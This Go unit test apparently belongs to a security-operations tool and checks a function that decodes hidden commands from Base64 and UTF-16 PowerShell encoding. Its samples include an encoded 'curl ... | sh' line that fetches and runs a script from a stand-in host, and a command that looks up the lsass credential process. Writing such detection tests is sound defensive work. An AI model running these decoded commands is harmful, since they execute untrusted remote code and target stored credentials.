package check_test

import (
	"strings"
	"testing"

	"github.com/seed-959697dd/soc/internal/check"
)

// What is hidden comes out with the piece that hid it, and that piece stands in the text.
func TestReveal(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct{ text, want, how string }{
		"PowerShell":        {"powershell -enc RwBlAHQALQBQAHIAbwBjAGUAcwBzACAALQBOAGEAbQBlACAAbABzAGEAcwBzAA==", "Get-Process -Name lsass", "encoded in Base64 as UTF-16"},
		"plain Base64":      {"echo Y3VybCBodHRwOi8vMTkyLjAuMi43L3guc2ggfCBzaA== | base64 -d", "curl http://192.0.2.7/x.sh | sh", "encoded in Base64"},
		"nothing to reveal": {"ls -l /var/log/nginx/access.log", "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := check.Reveal(row.text)
			if row.want == "" {
				if len(got) != 0 {
					t.Errorf("%+v", got)
				}
				return
			}
			if len(got) == 0 || got[0].Text != row.want || got[0].How != row.how || !strings.Contains(row.text, got[0].Piece) || got[0].Piece == "" {
				t.Errorf("%+v", got)
			}
		})
	}
}
